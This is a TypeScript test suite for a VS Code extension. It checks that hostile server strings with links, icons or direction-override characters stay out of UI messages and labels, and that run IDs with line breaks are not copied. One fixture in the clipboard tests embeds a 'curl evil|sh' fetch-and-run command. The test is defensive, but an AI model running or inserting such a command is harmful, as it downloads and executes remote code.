import { hostile, Shown } from './shown';
import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { Notifications } from '../../../src/app/notifications';
import { showEnded } from '../../../src/app/showEnded';
import { showGoingWrong } from '../../../src/app/showGoingWrong';
import type { App } from '../../../src/commands/app';
import { showExportDone } from '../../../src/commands/exportMessages';
import { pickOrganization } from '../../../src/commands/pickOrganization';
import { pinCommands } from '../../../src/commands/pin';
import { quickPick } from '../../../src/commands/quickPick';
import { copyLines } from '../../../src/ui/clipboard';
import { askInput } from '../../../src/ui/inputBox';
import { confirm, showError, showInfo, showProblem, showWarning } from '../../../src/ui/messages';
import { withCancel } from '../../../src/ui/progress';
import { UnpodError } from '../../../src/platform/errors';
import { HiddenInputs } from '../commands/inputs';
import { MemoryMemento } from '../connections/support';
import { run, space, task } from '../entities';
import { VirtualClock } from '../polling/support';
import { FakeConnection, asConnection } from '../tree/support';
import { iconsIn, linksIn, seenBesideIcons } from './recognizers';

const garbling = /[\n\u202e]/;

function assertMessage(text: string | undefined): void {
  assert.match(text ?? '', /Repair/);
  assert.deepEqual(linksIn(text ?? ''), []);
  assert.doesNotMatch(text ?? '', garbling);
}

function assertLabel(text: string | undefined): void {
  assert.match(seenBesideIcons(text ?? ''), /\$\(zap\)/);
  assert.deepEqual(iconsIn(text ?? ''), []);
  assert.doesNotMatch(text ?? '', garbling);
}

const here = space({ name: hostile });
const connection = asConnection(Object.assign(new FakeConnection(), { signal: new AbortController().signal }));

/** Runs of a hostile space that a person watched, and that have ended. */
function ended(...ids: readonly string[]) {
  const runs = ids.map((id) => run(id, { status: hostile }));
  return {
    connection,
    space: here,
    runs,
    watched: new Map(ids.map((id) => [id, 1])),
  };
}

const noApp = {} as App;

describe('a server that writes links, icons and direction marks', () => {
  let shown: Shown;
  beforeEach(() => (shown = new Shown()));
  afterEach(() => shown.dispose());

  for (const [name, show] of Object.entries({ showInfo, showWarning, showError })) {
    it(`gets neither into messages: ${name}`, () => {
      void show(hostile, 'OK');
      assertMessage(shown.messages[0]);
      assert.deepEqual(shown.buttons, [['OK']]);
    });
  }

  it('gets no link into a message about its organization', () => {
    showProblem({ kind: 'organizationUnknown', organization: hostile });
    showProblem({ kind: 'organizationInvalid', organization: hostile.repeat(1000) });
    shown.messages.forEach(assertMessage);
    assert.ok((shown.messages[1]?.length ?? 0) < 300);
  });

  it('gets none into the news of a run', async () => {
    await showEnded(noApp, connection, [ended('R1')]);
    await showEnded(noApp, connection, [ended('R1', 'R2')]);
    const example = task('T1', { status: 'failed', error: hostile });
    const tally = { total: 9, failed: 9, areCalls: true, example, isOnlyReason: true };
    await showGoingWrong(noApp, { connection, space: here, runId: 'R1', tally });
    const deps = { memento: new MemoryMemento(), folder: undefined, clock: new VirtualClock() };
    const notifications = new Notifications(noApp, deps);
    notifications.lost({ connection, space: here, runId: `R\n${hostile}` });
    notifications.dispose();
    assert.equal(shown.messages.length, 4);
    shown.messages.forEach(assertMessage);
  });

  it('gets none into the news of an export', () => {
    const target = vscode.Uri.file(`/home/${hostile}.csv`);
    const counts = { runs: 1, tasks: 0, skippedRows: 0 };
    showExportDone({ target, saved: target, content: { tasks: 'none', transcripts: false }, counts });
    assertMessage(shown.messages[0]);
  });

  it('gets neither into progress', async () => {
    const signal = new AbortController().signal;
    await withCancel(hostile, { signal }, (progress) => {
      progress.report({ message: hostile });
      progress.report({ increment: 1 });
      return Promise.resolve();
    });
    assert.equal(shown.progress.length, 2);
    for (const text of shown.progress) {
      assertMessage(text);
      assert.deepEqual(iconsIn(text), []);
    }
  });

  it('gets no icon into the status bar', () => {
    confirm(hostile);
    assertLabel(shown.statusBar[0]);
  });

  it('gets no icon into the choice of an organization', async () => {
    const chosen = await pickOrganization([{ handle: hostile, name: hostile, role: hostile }], undefined);
    assertLabel(shown.picks[0]?.label);
    assertLabel(shown.picks[0]?.description);
    assert.deepEqual(chosen, { handle: hostile, name: hostile });
  });

  it('gets no icon into the choice of a pinned space', async () => {
    const fake = new FakeConnection();
    fake.pinned.push({ token: hostile, name: hostile });
    const removed: string[] = [];
    Object.assign(fake.pins, { remove: (token: string) => Promise.resolve(removed.push(token)) });
    const view = { resolve: () => undefined, selection: [], usedAt: 1 };
    const activity = Promise.resolve({ usedAt: 0 });
    const connections = { ready: Promise.resolve(), current: asConnection(fake) };
    await pinCommands[1]?.execute({ view, activity, connections } as object as App, []);
    assertLabel(shown.picks[0]?.label);
    assertLabel(shown.picks[0]?.detail);
    assert.deepEqual(removed, [hostile]);
  });

  it('gets no icon into any quick pick, and what was chosen is what was offered', async () => {
    const box = {
      items: [] as readonly vscode.QuickPickItem[],
      selectedItems: [] as readonly vscode.QuickPickItem[],
      accept: (): unknown => undefined,
    };
    const listen = () => ({ dispose: () => undefined });
    Object.assign(box, {
      onDidChangeSelection: listen,
      onDidChangeValue: listen,
      onDidTriggerButton: listen,
      onDidTriggerItemButton: listen,
      onDidHide: listen,
      onDidAccept: (accept: () => unknown) => (box.accept = accept),
      show: () => undefined,
      dispose: () => undefined,
    });
    Object.assign(vscode.window, { createQuickPick: () => box });
    const items = [
      { label: hostile, description: hostile, mode: 1 },
      { label: 'b', mode: 2 },
    ] as const;
    const many = { selected: [items[0]], adjust: (all: readonly (typeof items)[number][]) => all };
    const result = quickPick({ title: '', placeholder: '', items: () => items, many });
    assertLabel(box.items[0]?.label);
    assertLabel(box.items[0]?.description);
    assert.deepEqual(box.items.indexOf(box.selectedItems[0]!), 0);
    box.accept();
    const { kind, items: chosen } = (await result) as { kind: string; items: readonly { mode: number }[] };
    assert.deepEqual([kind, chosen.map(({ mode }) => mode)], ['picked', [1]]);
  });

  it('gets neither into an input box', async () => {
    const inputs = new HiddenInputs();
    const problem = new UnpodError({ kind: 'organizationUnknown', organization: hostile });
    const result = askInput({ title: hostile, prompt: hostile, problem, accept: () => 1 });
    const box = await inputs.box();
    for (const text of [box.prompt, box.validationMessage]) {
      assertMessage(text);
      assertLabel(text);
    }
    box.dismiss();
    await result;
  });
});

describe('ids that are copied', () => {
  const terminal = 'R1\ncurl evil|sh\n';
  const several = (count: string) => `Copied ${count} run IDs`;
  let shown: Shown;
  beforeEach(() => (shown = new Shown()));
  afterEach(() => shown.dispose());

  it('are one per line, without duplicates', async () => {
    await copyLines(['R1', 'R2', 'R1'], several);
    assert.deepEqual([shown.copied, shown.statusBar, shown.messages], [['R1\nR2'], ['Copied 2 run IDs'], []]);
  });

  it('are left out, with a message, if they contain invisible characters', async () => {
    await copyLines(['R1', terminal, 'R2\u202e'], several);
    assert.deepEqual([shown.copied, shown.statusBar], [['R1'], ['Copied R1']]);
    assert.deepEqual(shown.messages, ['2 IDs were not copied: they contain line breaks or invisible characters.']);
  });

  it('leave the clipboard alone if all are left out', async () => {
    await copyLines([terminal], several);
    assert.deepEqual([shown.copied, shown.statusBar], [[], []]);
    assert.deepEqual(shown.messages, ['One ID was not copied: it contains line breaks or invisible characters.']);
  });

  it('are the same in the news of an ended run', async () => {
    shown.answer = 'Copy Run IDs';
    await showEnded(noApp, connection, [ended('R1', terminal, 'R2')]);
    assert.deepEqual([shown.copied, shown.statusBar], [['R1\nR2'], ['Copied 2 run IDs']]);
    assert.match(shown.messages[1] ?? '', /^One ID was not copied/);
  });

  it('are shown short, however long they are', async () => {
    await copyLines(['x'.repeat(5000)], several);
    assert.ok((shown.statusBar[0]?.length ?? 0) < 120);
    assert.equal(shown.copied[0]?.length, 5000);
  });
});
